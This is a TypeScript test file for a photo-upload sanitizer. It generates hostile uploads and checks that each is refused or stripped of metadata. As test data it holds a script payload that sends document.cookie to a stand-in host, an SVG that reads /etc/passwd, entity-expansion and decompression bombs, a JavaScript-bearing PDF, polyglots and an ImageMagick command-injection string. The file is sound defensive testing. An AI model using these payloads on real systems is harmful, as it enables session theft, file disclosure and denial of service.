/**
 * Hostile files uploaded instead of a photo. Each is refused with a reason or made harmless; none
 * ends the process, takes long or fills the memory. The files are generated here, so that the
 * repository contains none of them.
 */
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { crc32, deflateSync, gzipSync } from 'node:zlib'

import sharp from 'sharp'

import { preparePhoto, type PhotoProblem } from './prepare-photo.ts'

type HostileFile = { name: string; bytes: Buffer; outcome: PhotoProblem | 'harmless' }

const [width, height] = [800, 600]
const plainPicture = () =>
  sharp({ create: { width, height, channels: 3, background: { r: 200, g: 120, b: 90 } } })
const jpeg = await plainPicture().jpeg().toBuffer()
const png = await plainPicture().png().toBuffer()
const webp = await plainPicture().webp().toBuffer()
const script = '<script>fetch("//evil.example/"+document.cookie)</script>'
const createSvg = (inside: string) =>
  Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="800" height="600">${inside}</svg>`)

/** Returns a PNG with a header, picture data and at most one extra chunk. */
function createPng(
  size: [number, number],
  options: { colour?: number; extra?: Buffer; rows?: Buffer },
) {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(size[0], 0)
  header.writeUInt32BE(size[1], 4)
  header.set([8, options.colour ?? 0, 0, 0, 0], 8)
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    createChunk('IHDR', header),
    options.extra ?? Buffer.alloc(0),
    createChunk('IDAT', deflateSync(options.rows ?? Buffer.alloc(64))),
    createChunk('IEND', Buffer.alloc(0)),
  ])
}

function createChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const checksum = Buffer.alloc(4)
  checksum.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, checksum])
}

const insertBytes = (file: Buffer, offset: number, inserted: Buffer) =>
  Buffer.concat([file.subarray(0, offset), inserted, file.subarray(offset)])

/** Returns the JPEG with a segment after its first marker. */
function insertJpegSegment(marker: number, text: string): Buffer {
  const payload = Buffer.from(text, 'latin1')
  const segmentHeader = Buffer.from([
    0xff,
    marker,
    (payload.length + 2) >> 8,
    (payload.length + 2) & 255,
  ])
  return insertBytes(jpeg, 2, Buffer.concat([segmentHeader, payload]))
}

/** Scan lines of a valid grey picture of the usual size. */
const rows = Buffer.alloc((width + 1) * height, 0)
/** A decompression bomb: 50 million zeros, compressed to 50 kB. */
const bomb = deflateSync(Buffer.alloc(50_000_000))

const corpus: HostileFile[] = [
  { name: 'an empty file', bytes: Buffer.alloc(0), outcome: 'empty' },
  { name: 'one byte', bytes: Buffer.from([0xff]), outcome: 'unsupported' },
  { name: 'plain text', bytes: Buffer.from('a picture, honestly'), outcome: 'unsupported' },
  {
    name: 'a page named photo.png',
    bytes: Buffer.from(`<html>${script}</html>`),
    outcome: 'unsupported',
  },
  { name: 'an SVG with a script', bytes: createSvg(script), outcome: 'unsupported' },
  {
    name: 'an SVG that loads a file',
    bytes: createSvg('<image href="file:///etc/passwd"/>'),
    outcome: 'unsupported',
  },
  {
    name: 'an SVG with exponential entities',
    bytes: Buffer.from(
      `<?xml version="1.0"?><!DOCTYPE s [<!ENTITY a "${'x'.repeat(99)}"><!ENTITY b "${'&a;'.repeat(99)}">]><svg>&b;</svg>`,
    ),
    outcome: 'unsupported',
  },
  { name: 'a gzipped SVG', bytes: gzipSync(createSvg(script)), outcome: 'unsupported' },
  {
    name: 'an SVG after a byte order mark',
    bytes: Buffer.from(`\ufeff  ${createSvg(script)}`),
    outcome: 'unsupported',
  },
  {
    name: 'a PDF',
    bytes: Buffer.from('%PDF-1.7\n1 0 obj<</JS(app.alert(1))>>'),
    outcome: 'unsupported',
  },
  {
    name: 'a GIF that is a script',
    bytes: Buffer.from('GIF89a/*'.padEnd(90, '*')),
    outcome: 'unsupported',
  },
  { name: 'a real GIF', bytes: await plainPicture().gif().toBuffer(), outcome: 'unsupported' },
  {
    name: 'an AVIF',
    bytes: await plainPicture().avif({ effort: 0 }).toBuffer(),
    outcome: 'unsupported',
  },
  { name: 'a TIFF', bytes: await plainPicture().tiff().toBuffer(), outcome: 'unsupported' },
  { name: 'a ZIP', bytes: Buffer.from('PK\x03\x04evil.js'), outcome: 'unsupported' },
  {
    name: 'a program',
    bytes: Buffer.from('\x7fELF\x02\x01\x01', 'latin1'),
    outcome: 'unsupported',
  },
  {
    name: 'an ImageMagick script (MVG)',
    bytes: Buffer.from('push graphic-context\nurl(|id)'),
    outcome: 'unsupported',
  },
  { name: 'a BMP header', bytes: Buffer.from('BM\x36\x00\x00\x00'), outcome: 'unsupported' },
  {
    name: 'an HEIC header',
    bytes: Buffer.from('\0\0\0\x18ftypheic', 'latin1'),
    outcome: 'unsupported',
  },
  { name: 'only the first bytes of a JPEG', bytes: jpeg.subarray(0, 3), outcome: 'damaged' },
  { name: 'half a JPEG', bytes: jpeg.subarray(0, jpeg.length / 2), outcome: 'damaged' },
  { name: 'half a PNG', bytes: png.subarray(0, png.length / 2), outcome: 'damaged' },
  { name: 'half a WebP', bytes: webp.subarray(0, webp.length / 2), outcome: 'damaged' },
  {
    name: 'a PNG signature before a page',
    bytes: insertBytes(png, 8, Buffer.from(script)),
    outcome: 'damaged',
  },
  {
    name: 'a WebP header before text',
    bytes: Buffer.from(`RIFF\x10\0\0\0WEBP${script}`),
    outcome: 'damaged',
  },
  {
    name: 'a PNG with wrong checksums',
    bytes: Buffer.from(png).fill(7, 40, 48),
    outcome: 'damaged',
  },
  {
    name: 'a PNG of a million by a million',
    bytes: createPng([1e6, 1e6], {}),
    outcome: 'too many pixels',
  },
  {
    name: 'a PNG of 30,000 by 30,000',
    bytes: createPng([3e4, 3e4], { rows: bomb }),
    outcome: 'too many pixels',
  },
  { name: 'a PNG without size', bytes: createPng([0, 0], {}), outcome: 'damaged' },
  { name: 'a PNG that ends too early', bytes: createPng([width, height], {}), outcome: 'damaged' },
  {
    name: 'a JPEG with a false size in its header',
    bytes: Buffer.concat([
      jpeg.subarray(0, jpeg.indexOf(Buffer.from([0xff, 0xc0])) + 5),
      Buffer.from([0x80, 0, 0x80, 0]),
      jpeg.subarray(jpeg.indexOf(Buffer.from([0xff, 0xc0])) + 9),
    ]),
    outcome: 'too many pixels',
  },
  {
    name: 'a picture that is too wide',
    bytes: await plainPicture().resize(4000, 700, { fit: 'fill' }).png().toBuffer(),
    outcome: 'too elongated',
  },
  {
    name: 'a picture that is too small',
    bytes: await plainPicture().resize(40, 40).png().toBuffer(),
    outcome: 'too small',
  },
  {
    name: 'an animated WebP',
    bytes: await sharp(
      // Each frame has another grey, or the encoder would merge them.
      Buffer.concat(Array.from({ length: 20 }, (_, frame) => Buffer.alloc(rows.length, frame * 9))),
      { raw: { width: width + 1, height: height * 20, pageHeight: height, channels: 1 } },
    )
      .webp({ loop: 0, delay: Array.from({ length: 20 }, () => 50) })
      .toBuffer(),
    outcome: 'animated',
  },
  // Valid pictures with something else inside.
  {
    name: 'a JPEG with a page after its end',
    bytes: Buffer.concat([jpeg, Buffer.from(script)]),
    outcome: 'harmless',
  },
  {
    name: 'a JPEG with a ZIP behind it',
    bytes: Buffer.concat([jpeg, Buffer.from('PK\x03\x04evil.js')]),
    outcome: 'harmless',
  },
  {
    name: 'a JPEG with a page as its comment',
    bytes: insertJpegSegment(0xfe, script),
    outcome: 'harmless',
  },
  {
    name: 'a JPEG with XMP',
    bytes: insertJpegSegment(0xe1, `http://ns.adobe.com/xap/1.0/\0${script}`),
    outcome: 'harmless',
  },
  {
    name: 'a JPEG with its GPS position',
    bytes: await plainPicture()
      .withExif({
        IFD0: { Artist: script },
        IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '3/1 8/1 0/1' },
      })
      .jpeg()
      .toBuffer(),
    outcome: 'harmless',
  },
  {
    name: 'a PNG with a decompression bomb as text',
    bytes: createPng([width, height], {
      rows,
      extra: createChunk('zTXt', Buffer.concat([Buffer.from('a\0\0'), bomb])),
    }),
    outcome: 'harmless',
  },
  {
    name: 'a PNG with a decompression bomb as colour profile',
    bytes: createPng([width, height], {
      rows,
      extra: createChunk('iCCP', Buffer.concat([Buffer.from('a\0\0'), bomb])),
    }),
    outcome: 'harmless',
  },
  {
    name: 'a PNG with a page as text',
    bytes: createPng([width, height], {
      rows,
      extra: createChunk('tEXt', Buffer.from(`c\0${script}`)),
    }),
    outcome: 'harmless',
  },
  {
    name: 'an animated PNG',
    bytes: createPng([width, height], {
      rows,
      extra: createChunk('acTL', Buffer.from([0, 0, 0, 9, 0, 0, 0, 0])),
    }),
    outcome: 'harmless',
  },
]

test(`each of ${corpus.length} hostile files is refused or made harmless within time and memory limits`, async (t) => {
  assert.ok(corpus.length >= 30)
  const memoryBefore = process.memoryUsage().rss
  for (const { name, bytes, outcome } of corpus)
    await t.test(name, async () => {
      const startedAt = performance.now()
      const result = await preparePhoto(bytes)
      assert.equal(result.ok ? 'harmless' : result.reason, outcome)
      assert.ok(performance.now() - startedAt < 10_000, 'it took too long')
      if (!result.ok) return
      assert.deepEqual(
        result.files.map((file) => file.name),
        ['photo-320.avif', 'photo-320.webp', 'photo-640.avif', 'photo-640.webp'],
      )
      for (const file of result.files) {
        const metadata = await sharp(file.bytes).metadata()
        assert.match(String(metadata.format), /^(heif|webp)$/)
        for (const field of ['exif', 'xmp', 'icc', 'iptc', 'comments'] as const)
          assert.equal(metadata[field], undefined, field)
        const text = file.bytes.toString('latin1')
        assert.doesNotMatch(text, /<script|evil/)
      }
    })
  const growthMb = (process.memoryUsage().rss - memoryBefore) / 1024 / 1024
  assert.ok(growthMb < 150, `memory grew by ${Math.round(growthMb)} MB`)
})

test('a photo is rotated by its EXIF orientation', async () => {
  const rotatedFile = await plainPicture().withMetadata({ orientation: 6 }).jpeg().toBuffer()
  const result = await preparePhoto(rotatedFile)
  assert.ok(!result.ok && result.reason === 'too small', 'upright it is 600 wide')
  const large = await sharp(rotatedFile, { autoOrient: false })
    .resize(1000, 800)
    .withMetadata({ orientation: 6 })
    .jpeg()
    .toBuffer()
  const upright = await preparePhoto(large)
  assert.ok(upright.ok)
  assert.ok(upright.ratio[1] > upright.ratio[0])
})

test('photos beyond the concurrency limit wait and are all decoded', async () => {
  const result = await Promise.all(Array.from({ length: 6 }, () => preparePhoto(jpeg)))
  assert.ok(result.every(({ ok }) => ok))
})
